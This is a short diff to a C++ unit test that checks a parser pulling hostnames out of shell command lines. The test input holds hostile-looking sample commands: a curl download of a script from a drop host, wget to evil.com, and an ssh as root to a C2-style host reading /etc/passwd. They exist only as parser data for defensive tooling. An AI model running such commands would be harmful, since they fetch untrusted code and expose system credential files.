@@ -403,7 +403,7 @@ TEST(HostTokens, FindHostsAndUrlHostsInACommandLine) {
       if (t.url || looks_like_domain(t.host)) hosts.emplace_back(t.host);
     });
   };
-  collect(R"(curl -fsSL "https://user@Drop.Example.org:8443/x.sh?a=b" -o /tmp/x; wget evil.com. ; ssh root@c2.example.net:22 ls /etc/passwd 1.2.3)");
+  collect(R"(curl -fsSL "https://user@Drop.Example.org:8443/x.sh?a=b" -o x.sh; wget evil.com. ; ssh root@c2.example.net:22 ls /etc/passwd 1.2.3)");
   EXPECT_EQ(hosts, (std::vector<std::string>{"Drop.Example.org", "evil.com", "c2.example.net"}));
   collect("--url=http://[2001:db8::1]:80/ http://192.0.2.1/a");
   EXPECT_EQ(hosts, (std::vector<std::string>{"2001:db8::1", "192.0.2.1"}));
